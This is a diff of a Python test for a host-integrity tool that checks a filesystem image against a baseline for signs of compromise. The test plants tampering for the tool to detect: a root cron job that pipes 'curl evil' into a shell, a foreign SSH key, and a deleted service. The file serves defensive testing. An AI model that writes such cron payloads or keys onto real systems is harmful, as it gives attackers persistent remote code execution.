@@ -61,7 +61,10 @@ def test_a_tree_is_compared_with_its_baseline_and_what_is_new_is_named(image, tm
     saved = tmp_path / "before.json"
     baseline(image, saved)
     code, found = doctor(image, "--baseline", str(saved))
-    assert (code, {each["verdict"] for each in found.values()}) == (0, {"pass"})
+    assert code == 0
+    assert {id: each["verdict"] for id, each in found.items() if each["verdict"] != "pass"} == {
+        "persist.authorization": "skip", "persist.profiles": "skip",
+    }  # fmt: skip
     (image / "etc/cron.d/miner").write_text("* * * * * root curl evil | sh\n")
     (image / "root/.ssh/authorized_keys").write_text("ssh-ed25519 BBBB other\n")
     (image / "etc/systemd/system/web.service").unlink()
